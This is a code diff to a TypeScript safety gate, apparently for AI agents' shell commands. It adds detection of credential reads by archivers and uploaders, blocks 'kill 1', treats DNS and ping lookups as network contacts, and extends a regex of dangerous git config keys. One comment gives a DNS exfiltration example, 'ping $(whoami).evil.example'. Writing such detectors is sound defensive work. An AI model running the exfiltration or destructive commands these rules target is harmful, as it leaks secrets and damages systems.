@@ -1,5 +1,14 @@
 import { posix } from "node:path";
-import { type Analysis, commandBase, DYN, isSecretPath, type StdinSource, show, type Val } from "./shell.js";
+import {
+  type Analysis,
+  commandBase,
+  DYN,
+  isSecretDir,
+  isSecretPath,
+  type StdinSource,
+  show,
+  type Val,
+} from "./shell.js";
 
 /**
  * What each known command does, given its evaluated argv. Unknown commands are grey: a binary we
@@ -277,6 +286,17 @@ export function runCommand(
   const io: Io = { name, stdin, piped };
   if (a.functions.has(name)) return null; // its body was analysed where it was defined
   if (isInfoQuery(args) && !PRIVILEGED.has(name)) return null;
+  // Any other program handed a credential file or directory (tar, zip, rsync, cp, an uploader…)
+  // reads it into something the agent controls.
+  if (
+    !READERS.has(name) &&
+    !CREDENTIAL_NEUTRAL.has(name) &&
+    args.some(
+      (v) =>
+        !v.dyn && (isSecretDir(v.s, a.ctx.home) || (v.s.startsWith("/") && isSecretPath(v.s, a.ctx.home))),
+    )
+  )
+    a.grey("secret_read", `\`${name}\` reads a credential file or directory`);
   const handler = HANDLERS[name];
   if (handler) return handler(args, a, io) ?? null;
   if (READERS.has(name)) return name === "cat" && args.length === 0 ? stdin : readerOutput(name, args, a);
@@ -296,6 +316,13 @@ export function runCommand(
   a.grey("unknown_command", `\`${name}\` is not a command forge-gate knows to be safe`);
   return null;
 }
+
+/** Commands that name a credential path without reading its content into anything. */
+const CREDENTIAL_NEUTRAL = new Set(
+  "source . test [ [[ chmod chown chgrp rm touch mkdir ssh ssh-add ssh-keygen git echo printf export unset cd pushd".split(
+    " ",
+  ),
+);
 
 function readerOutput(name: string, args: Val[], a: Analysis): StdinSource | null {
   const secret =
@@ -431,6 +458,10 @@ H.getopts = () => null;
 H.kill = (args, a) => {
   if (args.some((v) => v.s === "-1" || v.s === "0") && args.length >= 2) {
     a.block("kill_all", "`kill` targeting -1/0 kills every process of the user");
+  }
+  // PID 1 is init (or the container's entrypoint): killing it takes the whole machine or container down.
+  if (args.some((v, i) => normArg(v) === "1" && !/^-(s|n|-signal)$/.test(normArg(args[i - 1] ?? lit(""))))) {
+    a.block("kill_all", "`kill 1` kills init, taking the machine or container down");
   }
   a.fx.readOnly = false;
   return null;
@@ -698,6 +729,14 @@ function interpreterHandler(args: Val[], a: Analysis, io: Io): StdinSource | nul
     else a.script(args[i]!, via);
     return null;
   }
+  // `node --test` runs the project's test files (and `node --run x` a package.json script): no stdin code.
+  if (
+    (io.name === "node" || io.name === "nodejs") &&
+    args.some((v) => /^--(test|run)(=|$)/.test(normArg(v)))
+  ) {
+    a.project(via);
+    return null;
+  }
   // No script: code comes from stdin.
   const src = io.stdin;
   if (src?.network) {
@@ -721,7 +760,10 @@ function pythonModule(mod: string, rest: Val[], a: Analysis, io: Io): StdinSourc
   if (mod === "json.tool" || mod === "pydoc" || mod === "site" || mod === "platform" || mod === "sysconfig")
     return null;
   if (mod === "http.server") {
-    a.project(`\`${io.name} -m http.server\``);
+    // It serves a directory to the network: the one it serves must be inside the lease.
+    const p = parseOpts(rest, ["-d", "--directory", "-b", "--bind", "--protocol"]);
+    const dir = optValues(p, "-d", "--directory")[0];
+    a.project(`\`${io.name} -m http.server\``, dir);
     return null;
   }
   a.project(`\`${io.name} -m ${mod}\``);
@@ -956,12 +998,65 @@ H.truncate = (args, a) => {
 function metaHandler(verb: string) {
   return (args: Val[], a: Analysis): null => {
     const p = parseOpts(args, ["--reference", "--from"]);
-    const targets = has(p, "--reference") ? p.positional : p.positional.slice(1);
+    // `chmod -x f`, `chattr -i f`: the mode parses as an option, so every positional is a target.
+    const modeAsOpt = args.some(
+      (v) => /^[-+=][rwxXstugoaAcCdDeEFijmPSTu]+$/.test(v.s) && !/^-[Rvcf]+$|^--/.test(v.s),
+    );
+    const targets = has(p, "--reference") || modeAsOpt ? p.positional : p.positional.slice(1);
     const recursive = has(p, "-R", "--recursive");
     for (const t of targets) a.write(t, recursive ? "rmeta" : "meta", `\`${verb}${recursive ? " -R" : ""}\``);
     return null;
   };
 }
+/**
+ * DNS and ICMP probes only read, but the name they look up leaves the machine: a host outside the
+ * allowlist, or one built at run time (`ping $(whoami).evil.example`), is a network contact like curl's.
+ */
+function lookupTool(args: Val[], a: Analysis, io: Io): StdinSource | null {
+  const valueOpts = [
+    "-c",
+    "-i",
+    "-W",
+    "-w",
+    "-s",
+    "-t",
+    "-p",
+    "-q",
+    "-f",
+    "-m",
+    "-I",
+    "-b",
+    "-x",
+    "-k",
+    "-y",
+    "-h",
+  ];
+  for (let i = 0; i < args.length; i++) {
+    const v = args[i]!;
+    if (v.s.startsWith("-") && !v.dyn) {
+      if (valueOpts.includes(v.s)) i++;
+      continue;
+    }
+    const raw = v.s.replace(/^@/, "");
+    if (v.dyn) a.grey("dynamic_host", `\`${io.name}\` looks up a host that cannot be known before it runs`);
+    else if (/[a-zA-Z]/.test(raw) && /\./.test(raw)) a.host(`dns://${raw}`, `\`${io.name}\``, false);
+  }
+  return { text: null, network: false, secret: false, via: `\`${io.name}\`` };
+}
+for (const n of [
+  "ping",
+  "ping6",
+  "dig",
+  "nslookup",
+  "host",
+  "drill",
+  "traceroute",
+  "tracepath",
+  "mtr",
+  "whois",
+])
+  H[n] = lookupTool;
+
 H.chmod = metaHandler("chmod");
 H.chown = metaHandler("chown");
 H.chgrp = metaHandler("chgrp");
@@ -1639,7 +1734,20 @@ const GIT_WRITE_OK = new Set(
   ),
 );
 const DANGEROUS_GIT_CONFIG =
-  /^(core\.(hookspath|fsmonitor|sshcommand|pager|editor|askpass|gitproxy|attributesfile|excludesfile)|alias\..*|filter\..*|diff\..*\.(textconv|command)|merge\..*\.driver|credential\..*|include\.path|includeif\..*|url\..*\.insteadof|protocol\..*|uploadpack\..*|receive\..*|sequence\.editor|gpg\.program|pager\..*|http\..*\.proxy|remote\..*\.(uploadpack|receivepack))$/i;
+  /^(core\.(hookspath|fsmonitor|sshcommand|pager|editor|askpass|gitproxy|attributesfile|excludesfile|worktree)|alias\..*|filter\..*|diff\.external|diff\..*\.(textconv|command)|(diff|merge)tool\..*|(diff|merge)\.(tool|guitool)|merge\..*\.driver|credential\..*|include\.path|includeif\..*|url\..*\.insteadof|protocol\..*|uploadpack\..*|receive\..*|sequence\.editor|gpg\.(.*\.)?program|interactive\.difffilter|(web|browser|man)\..*|pager\..*|http\..*\.proxy|remote\..*\.(uploadpack|receivepack))$/i;
+
+/**
+ * Discarding uncommitted changes to named files rewrites those files, no more than `cp`/an edit
+ * would: judge them as writes (inside the lease → allowed). Pathspec magic or globs
+ * make the set of files unknowable statically, so those stay grey.
+ */
+function discardPaths(targets: Val[], a: Analysis, via: string): void {
+  if (targets.length === 0 || targets.some((v) => v.glob || /^:|[*?[]/.test(v.s))) {
+    a.grey("git_discard", `${via} discards uncommitted changes to those files`);
+    return;
+  }
+  for (const t of targets) a.write(t, "rdelete", via);
+}
 
 H.git = (args, a, _io) => {
   let i = 0;
@@ -1782,7 +1890,8 @@ H.git = (args, a, _io) => {
           return null;
         }
         if (paths.length > 0 || (dashdash === -1 && pos.length > 1)) {
-          a.grey("git_discard", "`git checkout -- <paths>` discards uncommitted changes to those files");
+          const targets = dashdash === -1 ? p.positional.slice(1) : rest.slice(dashdash + 1);
+          discardPaths(targets, a, "`git checkout -- <paths>`");
           return null;
         }
         a.project(via);
@@ -1799,7 +1908,7 @@ H.git = (args, a, _io) => {
           a.block("git_destructive", "`git restore .` discards uncommitted changes");
           return null;
         }
-        a.grey("git_discard", "`git restore <paths>` discards uncommitted changes to those files");
+        discardPaths(p.positional, a, "`git restore <paths>`");
         return null;
       }
       case "branch":
@@ -1808,7 +1917,26 @@ H.git = (args, a, _io) => {
           return null;
         }
         if (has(p, "-M", "-C")) a.grey("git_discard", `${via} -M/-C overwrites an existing branch`);
+        // `git branch -f main HEAD~5` moves an existing branch, dropping its commits.
+        else if (has(p, "-f", "--force") && pos.length > 0)
+          a.grey("git_discard", `${via} -f moves an existing branch and may drop its commits`);
         break;
+      case "submodule":
+      case "bisect": {
+        // `git submodule foreach CMD` / `git bisect run CMD` run a command (the former through a shell).
+        const at = pos.indexOf(sub === "submodule" ? "foreach" : "run");
+        if (at === -1) break;
+        const rest = p.positional.slice(at + 1);
+        if (rest.length === 0) break;
+        if (sub === "submodule") {
+          if (rest.some((v) => v.dyn))
+            a.grey("dynamic_eval", `${via} foreach runs a command that cannot be known`);
+          else a.nested(rest.map((v) => v.s).join(" "), `${via} foreach`);
+          a.fx.readOnly = false;
+          return null;
+        }
+        return runCommand(rest, a, null, false);
+      }
       case "stash": {
         const action = pos[0] ?? "push";
         if (action === "drop" || action === "clear") {
@@ -2046,14 +2174,16 @@ function nodePackageManager(args: Val[], a: Analysis, io: Io): StdinSource | nul
   );
   const sub = p.positional[0]?.s ?? (io.name === "yarn" ? "install" : "");
   const rest = p.positional.slice(1);
-  const restOpts = parseOpts(rest, []);
+  // Options may follow the subcommand too (`npm install --prefix ~ x`).
+  const restOpts = parseOpts(rest, ["--prefix", "-C", "--dir", "--cwd"]);
   const via = `\`${io.name} ${sub}\``;
   const global =
     has(p, "-g", "--global", "--location") ||
     has(restOpts, "-g", "--global", "--location") ||
     rest.some((v) => v.s === "global") ||
     sub === "global";
-  const prefix = optValue(p, "--prefix", "-C", "--dir", "--cwd");
+  const prefix =
+    optValue(p, "--prefix", "-C", "--dir", "--cwd") ?? optValue(restOpts, "--prefix", "-C", "--dir", "--cwd");
   const READ =
     /^(ls|list|ll|la|outdated|view|info|show|v|search|s|find|explain|why|help|doctor|prefix|root|bin|fund|query|audit|licenses|version-check|whoami|ping|config-get|owner-ls|completion|docs|home|repo|bugs|-v|--version|-h|--help)$/;
   if (READ.test(sub) && !(sub === "audit" && rest.some((v) => v.s === "fix"))) return null;
@@ -2289,6 +2419,9 @@ H.go = (args, a) => {
     "-pkgdir",
   ]);
   if (has(p, "-exec", "-toolexec")) a.grey("inline_code", `${via} -exec runs another program`);
+  // `go run example.com/tool@v1` downloads a module and runs it, like `npx pkg`.
+  if (sub === "run" && p.positional.some((v) => /@|^[\w-]+\.[\w.-]+\//.test(v.s) && !/^\.{0,2}\//.test(v.s)))
+    a.grey("npx_unknown", `${via} downloads a remote module and runs it`);
   const out = optValue(p, "-o", "-coverprofile", "-cpuprofile", "-memprofile");
   if (out) a.write(out, "write", via);
   a.project(via, optValue(p, "-C") ?? undefined);
